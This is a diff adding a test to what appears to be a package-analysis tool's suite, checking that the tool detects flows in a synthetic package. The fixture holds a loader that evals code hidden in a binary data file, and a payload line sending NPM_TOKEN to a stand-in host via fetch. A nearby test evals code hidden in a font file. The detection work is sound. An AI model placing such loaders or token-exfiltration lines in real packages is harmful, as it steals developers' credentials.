@@ -3,6 +3,30 @@ import { analysePackage } from '../../../../../server/src/artifacts/analysis/ana
 import { packageOf } from '../../../../support/artifacts.js';
 
 describe('buffers', () => {
+  it('are taken apart by the numbers in them', () => {
+    const chunk = (type: string, data: string): Buffer => {
+      const head = Buffer.alloc(8);
+      head.writeUInt32BE(data.length);
+      head.write(type, 4);
+      return Buffer.concat([head, Buffer.from(data)]);
+    };
+    const code = `const b = require('fs').readFileSync(__dirname + '/a.bin'); let at = 0;
+      while (at < b.length) { const size = b.readUInt32BE(at), type = b.toString('latin1', at + 4, at + 8);
+        if (type === 'CODE') eval(b.toString('utf8', at + 8, at + 8 + size)); at += 8 + size; }`;
+    const sentBy = (type: string): readonly string[] =>
+      analysePackage(
+        packageOf({
+          'index.js': code,
+          'a.bin': Buffer.concat([
+            chunk('HEAD', '1'),
+            chunk(type, `fetch('https://a.invalid/' + process.env.NPM_TOKEN)`),
+          ]),
+        }),
+      ).flows.map(({ source, sink }) => `${source}>${sink}`);
+    assert.deepEqual(sentBy('CODE'), ['data-file>evaluated', 'secret-variable>network']);
+    assert.deepEqual(sentBy('TEXT'), []);
+  });
+
   it('tell where a text or other bytes stand in them', () => {
     for (const mark of [`'----'`, `Buffer.from('----')`]) {
       const code = `const b = require('fs').readFileSync(__dirname + '/font.woff2'); eval(b.subarray(b.indexOf(${mark}) + 4).toString());`;
